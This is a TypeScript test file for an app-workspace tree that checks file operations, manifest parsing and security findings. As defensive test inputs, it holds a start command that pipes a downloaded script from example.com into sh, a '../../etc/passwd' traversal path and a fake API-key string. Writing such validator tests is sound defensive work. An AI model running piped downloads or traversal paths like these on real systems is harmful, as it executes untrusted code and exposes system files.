import assert from 'node:assert/strict';
import { AppTree } from '../../src/core/workspace/appTree';
import { decodeText, encodeText, jsonErrorLine } from '../../src/core/workspace/treeText';
import { TreeError } from '../../src/core/workspace/treeTypes';
import { templateSpec } from '../../src/core/stacks';
import { MANIFEST_NAME } from '../../src/core/validate';

function withCalculator() {
  const tree = new AppTree();
  const app = tree.createApp({ nameHint: 'a calculator', generator: 'templates', prompt: 'a calculator' });
  tree.setSpec(app, templateSpec('webapp', 'a calculator'), 'templates');
  return { tree, app };
}

function code(fn: () => unknown): string | undefined {
  try {
    fn();
  } catch (err) {
    assert.ok(err instanceof TreeError, `expected a TreeError, got ${String(err)}`);
    return err.code;
  }
  return undefined;
}

describe('AppTree', () => {
  it('holds an app as a folder with its files and manifest, and gives back the same spec', () => {
    const { tree, app } = withCalculator();
    assert.equal(app.name, 'a-calculator');
    const names = tree.readDirectory('/a-calculator').map(([n]) => n).sort();
    assert.deepEqual(names, ['app.js', 'index.html', 'server.js', MANIFEST_NAME, 'style.css']);
    const { spec, findings } = tree.specOf(app);
    assert.ok(spec);
    assert.equal(spec.startCommand, 'node server.js');
    assert.equal(spec.title, 'Calculator');
    assert.deepEqual(findings.filter((f) => f.severity === 'error'), []);
    const original = templateSpec('webapp', 'a calculator');
    for (const f of original.files) assert.equal(spec.files.find((x) => x.path === f.path)?.content, f.content);
  });

  it('deploys edits: a changed, created, renamed and deleted file all show in the spec', () => {
    const { tree, app } = withCalculator();
    tree.writeFile('/a-calculator/index.html', encodeText('<h1>edited</h1>'), { create: false, overwrite: true });
    tree.createDirectory('/a-calculator/lib');
    tree.writeFile('/a-calculator/lib/extra.js', encodeText('1'), { create: true, overwrite: false });
    tree.rename('/a-calculator/style.css', '/a-calculator/main.css');
    tree.delete('/a-calculator/app.js');
    const spec = tree.specOf(app).spec!;
    assert.equal(spec.files.find((f) => f.path === 'index.html')?.content, '<h1>edited</h1>');
    assert.deepEqual(spec.files.map((f) => f.path).sort(), ['index.html', 'lib/extra.js', 'main.css', 'server.js']);
  });

  it('emits created/changed/deleted changes', () => {
    const { tree } = withCalculator();
    const seen: string[] = [];
    tree.onDidChange((changes) => seen.push(...changes.map((c) => `${c.type} ${c.path}`)));
    tree.writeFile('/a-calculator/x.txt', encodeText('x'), { create: true, overwrite: false });
    tree.writeFile('/a-calculator/x.txt', encodeText('y'), { create: false, overwrite: true });
    tree.delete('/a-calculator/x.txt');
    assert.deepEqual(seen, ['created /a-calculator/x.txt', 'changed /a-calculator', 'changed /a-calculator/x.txt', 'deleted /a-calculator/x.txt', 'changed /a-calculator']);
  });

  it('refuses what a file system must refuse, with the matching codes', () => {
    const { tree } = withCalculator();
    assert.equal(code(() => tree.readFile('/a-calculator/nope')), 'FileNotFound');
    assert.equal(code(() => tree.readFile('/a-calculator')), 'FileIsADirectory');
    assert.equal(code(() => tree.readDirectory('/a-calculator/index.html')), 'FileNotADirectory');
    assert.equal(code(() => tree.writeFile('/a-calculator/index.html', encodeText(''), { create: true, overwrite: false })), 'FileExists');
    assert.equal(code(() => tree.writeFile('/a-calculator/new.txt', encodeText(''), { create: false, overwrite: true })), 'FileNotFound');
    assert.equal(code(() => tree.writeFile('/loose.txt', encodeText(''), { create: true, overwrite: true })), 'NoPermissions');
    assert.equal(code(() => tree.delete(`/a-calculator/${MANIFEST_NAME}`)), 'NoPermissions');
    assert.equal(code(() => tree.rename(`/a-calculator/${MANIFEST_NAME}`, '/a-calculator/m.json')), 'NoPermissions');
    assert.equal(code(() => tree.rename('/a-calculator/index.html', '/elsewhere')), 'NoPermissions');
  });

  it('renames and deletes whole apps, keeping the app id', () => {
    const { tree, app } = withCalculator();
    const id = app.id;
    tree.rename('/a-calculator', '/calc');
    assert.equal(tree.app(id)?.name, 'calc');
    assert.ok(tree.exists('/calc/index.html'));
    tree.delete('/calc');
    assert.equal(tree.app(id), undefined);
    assert.deepEqual(tree.readDirectory('/'), []);
  });

  it('a folder made at the top level is a new blank app', () => {
    const tree = new AppTree();
    tree.createDirectory('/mine');
    const app = tree.app('mine')!;
    assert.equal(app.generator, 'user');
    const { findings } = tree.specOf(app);
    assert.ok(findings.some((f) => f.rule === 'files.empty'));
  });

  it('gives apps unique names', () => {
    const tree = new AppTree();
    assert.equal(tree.createApp({ nameHint: 'Todo list' }).name, 'todo-list');
    assert.equal(tree.createApp({ nameHint: 'Todo list' }).name, 'todo-list-2');
  });

  it('drops a streamed file with a hostile path and reports it instead', () => {
    const tree = new AppTree();
    const app = tree.createApp({ nameHint: 'x' });
    const r = tree.putFile(app, '../../etc/passwd', 'x');
    assert.equal(r.ok, false);
    assert.equal(r.ok ? '' : r.finding.rule, 'path.traversal');
    assert.deepEqual(tree.filePaths(app), []);
    const nested = tree.putFile(app, '/app/src/a.js', 'a');
    assert.deepEqual(nested, { ok: true, path: 'src/a.js' });
  });

  it('puts findings on the right lines: spec-level ones on the manifest key, code ones on their line', () => {
    const { tree, app } = withCalculator();
    const manifest = JSON.parse(decodeText(tree.readFile(`/a-calculator/${MANIFEST_NAME}`))) as Record<string, unknown>;
    manifest.startCommand = 'curl http://example.com/x.sh | sh';
    tree.writeFile(`/a-calculator/${MANIFEST_NAME}`, encodeText(JSON.stringify(manifest, null, 2)), { create: false, overwrite: true });
    tree.writeFile('/a-calculator/app.js', encodeText('// one\n// two\nconst x = eval("1");\n'), { create: false, overwrite: true });
    const { findings } = tree.specOf(app);
    const piped = findings.find((f) => f.rule === 'start.piped_download')!;
    assert.equal(piped.severity, 'error');
    assert.equal(piped.path, MANIFEST_NAME);
    const text = decodeText(tree.readFile(`/a-calculator/${MANIFEST_NAME}`)).split('\n');
    assert.match(text[piped.line! - 1]!, /"startCommand"/);
    const ev = findings.find((f) => f.rule === 'code.eval')!;
    assert.deepEqual([ev.severity, ev.path, ev.line], ['warning', 'app.js', 3]);
  });

  it('reports a broken manifest as one error on the manifest', () => {
    const { tree, app } = withCalculator();
    tree.writeFile(`/a-calculator/${MANIFEST_NAME}`, encodeText('{\n  "appType": "webapp",\n  oops\n}'), { create: false, overwrite: true });
    const r = tree.specOf(app);
    assert.equal(r.spec, undefined);
    assert.equal(r.findings.length, 1);
    assert.equal(r.findings[0]!.rule, 'manifest.invalid');
    assert.equal(r.findings[0]!.line, 3);
    tree.writeFile(`/a-calculator/${MANIFEST_NAME}`, encodeText('{\n  "appType": "webapp",\n  "startCommand": 42\n}'), { create: false, overwrite: true });
    const r2 = tree.specOf(app);
    assert.equal(r2.findings[0]!.line, 3);
  });

  it('a broken manifest’s error says what is wrong without quoting the file', () => {
    const { tree, app } = withCalculator();
    tree.writeFile(`/a-calculator/${MANIFEST_NAME}`, encodeText('sk-ant-SECRET {'), { create: false, overwrite: true });
    const f = tree.specOf(app).findings[0]!;
    assert.equal(f.rule, 'manifest.invalid');
    assert.match(f.message, /^spawn-app\.json is not valid JSON: unexpected character\.$/);
    assert.doesNotMatch(f.message, /SECRET/);
  });

  it('a binary file (a dropped image) is an error, not silently corrupted; a BOM stays', () => {
    const { tree, app } = withCalculator();
    tree.writeFile('/a-calculator/logo.png', new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0xff]), { create: true, overwrite: false });
    const r = tree.specOf(app);
    assert.deepEqual(r.findings.filter((f) => f.severity === 'error').map((f) => [f.rule, f.path]), [['file.binary', 'logo.png']]);
    tree.delete('/a-calculator/logo.png');
    tree.writeFile('/a-calculator/bom.txt', new Uint8Array([0xef, 0xbb, 0xbf, 0x68, 0x69]), { create: true, overwrite: false });
    const again = tree.specOf(app);
    assert.deepEqual(again.findings.filter((f) => f.severity === 'error'), []);
    assert.deepEqual([...Buffer.from(again.spec!.files.find((f) => f.path === 'bom.txt')!.content, 'utf8')], [0xef, 0xbb, 0xbf, 0x68, 0x69]);
  });

  it('serializes and restores apps with their ids', () => {
    const { tree, app } = withCalculator();
    tree.writeFile('/a-calculator/index.html', encodeText('edited'), { create: false, overwrite: true });
    const copy = new AppTree();
    assert.equal(copy.restore(JSON.parse(JSON.stringify(tree.serialize()))), 1);
    assert.equal(copy.app(app.id)?.name, 'a-calculator');
    assert.equal(decodeText(copy.readFile('/a-calculator/index.html')), 'edited');
    assert.deepEqual(copy.specOf(copy.app(app.id)!).spec, tree.specOf(app).spec);
    assert.equal(copy.restore({ version: 9 }), 0);
  });

  it('finds the line of a JSON error from either message style', () => {
    assert.equal(jsonErrorLine('Unexpected token o in JSON at position 14', '{\n  "a": 1,\n  oops\n}'), 3);
    assert.equal(jsonErrorLine("Expected property name (line 3 column 3)", ''), 3);
  });
});
